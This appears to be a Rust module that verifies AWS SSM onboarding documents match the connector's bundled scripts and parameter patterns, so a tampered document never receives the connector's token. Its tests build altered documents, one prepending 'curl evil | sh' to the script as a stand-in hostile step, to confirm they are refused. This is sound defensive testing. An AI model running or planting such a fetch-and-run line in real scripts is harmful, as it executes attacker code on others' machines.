//! The connector's onboarding documents as this build carries them (`cfn/ssm/`), and the check that
//! a document found in an account runs exactly that before anything is sent with it: someone able
//! to change a document in a member account must not get the connector's token handed to
//! their script. The comparison is of meaning (the step's action, its script, the parameters and
//! their patterns), not of the stored text's hash, which CloudFormation's serialization decides.

use serde_json::Value;

use super::state::Platform;

/// The Linux onboarding script, as in `cfn/ssm/arc-onboard.sh`.
const LINUX_SCRIPT: &str = include_str!("../../cfn/ssm/arc-onboard.sh");
/// The Windows onboarding script, as in `cfn/ssm/arc-onboard.ps1`.
const WINDOWS_SCRIPT: &str = include_str!("../../cfn/ssm/arc-onboard.ps1");
/// The documents' parameters and their allowed patterns, as in `cfn/ssm/parameters.json`.
const PARAMETERS: &str = include_str!("../../cfn/ssm/parameters.json");

/// The script as the document embeds it: blank and comment-only lines left out (the shebang
/// kept), as `scripts/render_documents.py` writes it into `cfn/member.yaml`.
fn embedded(script: &str) -> String {
    script
        .split_inclusive('\n')
        .filter(|line| !line.trim().is_empty() && (!line.trim_start().starts_with('#') || line.starts_with("#!")))
        .collect()
}

/// What the platform's document must run: its step action and script.
fn expected(platform: Platform) -> (&'static str, String) {
    match platform {
        Platform::Linux => ("aws:runShellScript", embedded(LINUX_SCRIPT)),
        Platform::Windows => ("aws:runPowerShellScript", embedded(WINDOWS_SCRIPT)),
    }
}

/// Ok when `content` (a document's JSON content, `GetDocument`) runs exactly this build's script
/// for `platform` with this build's parameters; otherwise what differs.
pub(crate) fn verify(platform: Platform, content: &str) -> Result<(), String> {
    let document: Value = serde_json::from_str(content).map_err(|_| "its content is not JSON".to_string())?;
    let parameters: Value = serde_json::from_str(PARAMETERS).map_err(|e| format!("internal: parameters.json: {e}"))?;
    if document.get("parameters") != Some(&parameters) {
        return Err("its parameters or their allowed patterns differ".into());
    }
    let steps = document.get("mainSteps").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let [step] = steps else {
        return Err(format!("it has {} steps, the connector's has one", steps.len()));
    };
    let (action, script) = expected(platform);
    if step.get("action").and_then(Value::as_str) != Some(action) {
        return Err(format!("its step is not {action}"));
    }
    let lines = step.pointer("/inputs/runCommand").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let found: Option<Vec<&str>> = lines.iter().map(Value::as_str).collect();
    // SSM runs runCommand's entries as the lines of one script.
    if found.map(|lines| lines.join("\n")) != Some(script.clone()) {
        return Err(format!(
            "its script differs from the one this version of the connector carries ({} bytes)",
            script.len()
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The content `scripts/render_documents.py` generated into `cfn/member.yaml` for a document.
    fn generated(name: &str) -> String {
        let template = include_str!("../../cfn/member.yaml");
        let begin = format!("# BEGIN generated {name}");
        let end = format!("# END generated {name}");
        let block: Vec<&str> = template
            .lines()
            .skip_while(|l| !l.trim().starts_with(&begin))
            .skip(2)
            .take_while(|l| l.trim() != end)
            .map(str::trim_start)
            .collect();
        block.join("\n")
    }

    #[test]
    fn the_member_templates_documents_are_the_connectors() {
        assert_eq!(verify(Platform::Linux, &generated("arc-onboard-linux")), Ok(()));
        assert_eq!(verify(Platform::Windows, &generated("arc-onboard-windows")), Ok(()));
        let swapped = verify(Platform::Windows, &generated("arc-onboard-linux"));
        assert!(swapped.is_err_and(|e| e.contains("aws:runPowerShellScript")));
    }

    #[test]
    fn a_changed_script_parameter_pattern_or_extra_step_is_refused() {
        let original: Value = serde_json::from_str(&generated("arc-onboard-linux")).expect("json");
        let mut script = original.clone();
        let line = script["mainSteps"][0]["inputs"]["runCommand"][0].as_str().expect("script").to_string();
        script["mainSteps"][0]["inputs"]["runCommand"][0] =
            Value::from(line.replacen("set -", "curl evil | sh\nset -", 1));
        let mut pattern = original.clone();
        pattern["parameters"]["tenantId"]["allowedPattern"] = Value::from(".*");
        let mut steps = original.clone();
        let step = steps["mainSteps"][0].clone();
        steps["mainSteps"].as_array_mut().expect("steps").push(step);
        for (altered, why) in [(script, "script differs"), (pattern, "parameters"), (steps, "2 steps")] {
            let verdict = verify(Platform::Linux, &altered.to_string());
            assert!(verdict.as_ref().is_err_and(|e| e.contains(why)), "{why}: {verdict:?}");
        }
        assert!(verify(Platform::Linux, "not json").is_err());
    }
}
